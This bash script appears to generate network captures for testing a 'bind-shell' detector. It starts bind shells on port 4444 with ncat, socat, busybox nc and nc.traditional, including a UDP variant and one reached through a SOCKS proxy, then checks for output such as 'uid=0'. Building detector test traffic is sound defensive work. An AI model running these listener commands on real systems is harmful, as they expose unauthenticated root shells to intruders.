#!/usr/bin/env bash
# Captures of shells that wait at a port.  Usage: [OUTPUT-DIR [SCENARIO...]]
. "$(dirname "$0")/shells.sh"
DETECTOR=bind-shell
LINES_=(typed 0.7 "${COMMANDS[@]}")

hit_ncat_exec() { bind_ "${LINES_[@]}" -- ncat -l 4444 -e /bin/sh; has_text 'uid=0'; }
hit_ncat_bash() { bind_ "${LINES_[@]}" -- ncat -l 4444 --sh-exec 'bash --norc -i 2>&1'; has_text 'no job control'; }
hit_socat_pty() { bind_ keyed 'uname -s' 'exit' -- socat TCP-LISTEN:4444 EXEC:'bash --norc -i',pty,stderr,setsid,sigint,sane; has_text 'Linux'; }
hit_busybox_nc() { bind_ "${LINES_[@]}" -- busybox nc -l -p 4444 -e /bin/sh; has_text 'uid=0'; }
hit_nc_traditional() { bind_ "${LINES_[@]}" -- nc.traditional -l -p 4444 -e /bin/sh; has_text 'uid=0'; }
hit_udp_ncat() {
    net_up; record in cli rly; victim rly ncat -u -l 4444 -e /bin/sh & PIDS+=($!); waits rly 4444
    (cd / && "${LINES_[@]}" | on cli timeout 12 nc.openbsd -u -w 2 $RLY 4444 >/dev/null) || true; save; has_datagram 'uid=0'
}
hit_socks() { # reached through a proxy
    net_up; microsocks_up; victim rl2 ncat -l 4444 -e '/bin/sh -i' & PIDS+=($!); up rl2 4444
    record in cli rly rl2
    (cd / && "${LINES_[@]}" | on cli timeout 30 ncat --proxy $RLY:1080 --proxy-type socks5 $RL2 4444 >/dev/null) || true
    save
}
scenarios "$@"
